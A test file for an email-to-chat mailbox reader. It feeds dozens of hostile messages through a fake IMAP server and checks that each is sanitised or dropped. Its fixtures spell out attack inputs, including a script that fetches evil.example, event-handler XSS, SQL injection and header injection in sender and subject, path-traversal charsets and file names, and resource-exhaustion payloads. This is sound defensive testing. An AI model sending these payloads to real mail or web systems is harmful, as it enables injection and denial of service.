import { expect, test } from 'vitest'
import { findChat, listMessages } from '#server/chat/chat.store.ts'
import { startImapServer } from '#test/fakes/imap-server.ts'
import { createTestDatabase } from '#test/harness/database.ts'
import { answeredChat, mailboxReader, replyTo } from '#test/harness/mailbox.ts'

const { db } = await createTestDatabase({ demo: true })
const noon = new Date('2026-11-26T12:00:00Z')
const plain = 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8'
const html = 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8'
const mixed = (boundary = 'b') => `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="${boundary}"`
const file = (headers: string, content: string) => `--b\n${headers}\n\n${content}\n`
const base64 = (bytes: Buffer) => bytes.toString('base64')
const nested = (depth: number) =>
  Array.from({ length: depth }, (_, i) => `--b${i}\nContent-Type: multipart/mixed; boundary="b${i + 1}"\n`).join('\n')
const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
const tnef = Buffer.from('789f3e220000', 'hex')

/** What each becomes: its text, `nothing` where it is not taken, or `anything harmless`. */
const letters: [string, { head?: string; text: string; from?: string }, string][] = [
  ['a script in HTML', { head: html, text: '<p>Hi</p><script>fetch("//evil.example")</script>' }, 'Hi'],
  ['an event handler', { head: html, text: '<img src=x onerror="alert(1)"><b>Hi</b>' }, 'Hi'],
  ['markup within markup', { head: html, text: '<<script>script>alert(1)<</script>/script>Hi' }, 'anything harmless'],
  ['a script that is written as text', { head: plain, text: '<script>alert(1)</script>' }, '<script>alert(1)</script>'],
  [
    'entities that become markup',
    { head: html, text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
    '<script>alert(1)</script>',
  ],
  ['a style that hides', { head: html, text: '<style>*{display:none}</style>Hi' }, 'Hi'],
  ['a comment that does not end', { head: html, text: 'Hi<!-- and on' }, 'Hi'],
  ['an attribute that does not end', { head: html, text: 'Hi<a href="x' }, 'anything harmless'],
  ['zero bytes', { head: plain, text: 'H\0i' }, 'Hi'],
  ['escape sequences', { head: plain, text: '\u001b]0;owned\u0007Hi' }, ']0;ownedHi'],
  ['text that turns around', { head: plain, text: 'Hi \u202egnp.exe' }, 'Hi gnp.exe'],
  ['signs that nobody sees', { head: plain, text: 'H\u200bi\ufeff' }, 'Hi'],
  [
    'a charset that does not exist',
    { head: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=no-such', text: 'Hi' },
    'Hi',
  ],
  [
    'a charset that is code',
    { head: 'MIME-Version: 1.0\nContent-Type: text/plain; charset="../../etc/passwd"', text: 'Hi' },
    'Hi',
  ],
  [
    'UTF-7',
    { head: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-7', text: '+ADw-script+AD4-' },
    'anything harmless',
  ],
  [
    'UTF-16 that is none',
    { head: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-16', text: 'Hi there' },
    'anything harmless',
  ],
  [
    'broken UTF-8',
    {
      head: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable',
      text: 'Hi =FF=FE=C3',
    },
    'anything harmless',
  ],
  [
    'broken quoted-printable',
    { head: `${plain}\nContent-Transfer-Encoding: quoted-printable`, text: 'Hi =ZZ =' },
    'anything harmless',
  ],
  ['broken base64', { head: `${plain}\nContent-Transfer-Encoding: base64`, text: '!!!!SGk=####' }, 'anything harmless'],
  ['an encoding that does not exist', { head: `${plain}\nContent-Transfer-Encoding: no-such`, text: 'Hi' }, 'Hi'],
  ['an unbroken line of a megabyte', { head: plain, text: 'a'.repeat(1_000_000) }, 'anything harmless'],
  ['a hundred thousand lines', { head: plain, text: 'a\n'.repeat(100_000) }, 'anything harmless'],
  ['elements within elements', { head: html, text: '<div>'.repeat(100_000) }, 'nothing'],
  ['a thousand nested parts', { head: mixed('b0'), text: nested(1_000) }, 'nothing'],
  ['parts without an end', { head: mixed(), text: `${'--b\n\n'.repeat(5_000)}` }, 'nothing'],
  [
    'a boundary of nothing',
    { head: 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=""', text: 'Hi' },
    'anything harmless',
  ],
  ['a boundary that is an expression', { head: mixed('(.*)+$'), text: '--(.*)+$\n\nHi\n--(.*)+$--' }, 'Hi'],
  ['a head of a megabyte', { head: `X-Long: ${'a'.repeat(1_000_000)}`, text: 'Hi' }, 'nothing'],
  [
    'ten thousand headers',
    { head: Array.from({ length: 10_000 }, (_, i) => `X-${i}: a`).join('\n'), text: 'Hi' },
    'nothing',
  ],
  ['headers of a part that do not end', { head: mixed(), text: `--b\n${'X-A: a\n'.repeat(100_000)}` }, 'nothing'],
  [
    'a header within the subject',
    { head: `${plain}\nSubject: =?utf-8?Q?Hi=0D=0AFrom:_boris@example.org?=`, text: 'Hi' },
    'Hi',
  ],
  ['a second sender by a folded line', { head: plain, text: 'Hi', from: 'boris@example.org,\r\n' }, 'nothing'],
  ['a sender of encoded words', { head: plain, text: 'Hi', from: '=?utf-8?Q?anna=40example.org?=' }, 'nothing'],
  ['a sender that is a program', { head: plain, text: 'Hi', from: "'; drop table chats; --@example.org" }, 'nothing'],
  [
    'winmail.dat',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64', base64(tnef))}--b--`,
    },
    'Hi',
  ],
  [
    'a program with a picture’s name',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: image/png; name="a.png"\nContent-Disposition: attachment; filename="a.png"', 'MZ\u0090')}--b--`,
    },
    'Hi',
  ],
  [
    'a picture with a program’s name',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: image/png\nContent-Disposition: attachment; filename="../../a.exe\u202egnp"\nContent-Transfer-Encoding: base64', base64(png))}--b--`,
    },
    'Hi',
  ],
  [
    'a file with a name of a thousand signs',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file(`Content-Type: image/png\nContent-Disposition: attachment; filename="${'я'.repeat(1_000)}"\nContent-Transfer-Encoding: base64`, base64(png))}--b--`,
    },
    'Hi',
  ],
  [
    'a thousand files',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: image/png; name=a.png\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64', base64(png)).repeat(1_000)}--b--`,
    },
    'Hi',
  ],
  [
    'an SVG with a script',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: image/svg+xml; name=a.svg', '<svg onload="alert(1)"/>')}--b--`,
    },
    'Hi',
  ],
  [
    'an archive that grows',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: application/zip; name=42.zip\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64', base64(Buffer.from('504b0304', 'hex')))}--b--`,
    },
    'Hi',
  ],
  [
    'a letter within the letter',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: message/rfc822', 'From: boris@example.org\nSubject: x\n\nPay to my account')}--b--`,
    },
    'Hi',
  ],
  [
    'an invitation',
    {
      head: mixed(),
      text: `${file('Content-Type: text/plain', 'Hi')}${file('Content-Type: text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\nEND:VCALENDAR')}--b--`,
    },
    'Hi',
  ],
  ['no text at all', { head: plain, text: '' }, 'nothing'],
]

test('there are at least forty', () => expect(letters.length).toBeGreaterThanOrEqual(40))

test.each(letters)('%s does no harm', { timeout: 20_000 }, async (_, { from, ...letter }, becomes) => {
  const server = await startImapServer()
  await db.deleteFrom('mailbox_letters').execute()
  await db.updateTable('mailbox_state').set({ holder: null, until: noon, next_at: noon }).execute()
  const chat = await answeredChat(db, noon)
  const next = await answeredChat(db, noon)
  server.deliver(replyTo(chat, { ...letter, from }), noon)
  server.deliver(replyTo(next), noon)
  const { look, alarms } = mailboxReader(db, server.mailbox, () => noon)
  // Processor time: what else the machine has to do is not counted.
  const before = process.cpuUsage()
  await look()
  const { user, system } = process.cpuUsage(before)
  expect(user + system).toBeLessThan(8_000_000)

  expect(alarms).toEqual([])
  expect((await listMessages(db, next.id, 10)).map(({ text }) => text)).toEqual(['Hello?', 'Thanks!'])
  const [, ...messages] = await listMessages(db, chat.id, 100)
  expect(messages.length).toBeLessThanOrEqual(7)
  for (const { text, file } of messages) {
    expect(text.length).toBeLessThanOrEqual(4_000)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be in a text
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/)
    if (file) expect(file.name).toMatch(/^[^/\\\p{C}]{1,120}$/u)
  }
  if (becomes === 'nothing') expect(messages).toEqual([])
  else if (becomes !== 'anything harmless') expect(messages[0]?.text).toBe(becomes)
  expect((await findChat(db, chat.id))!.email).toBe(chat.email)
})
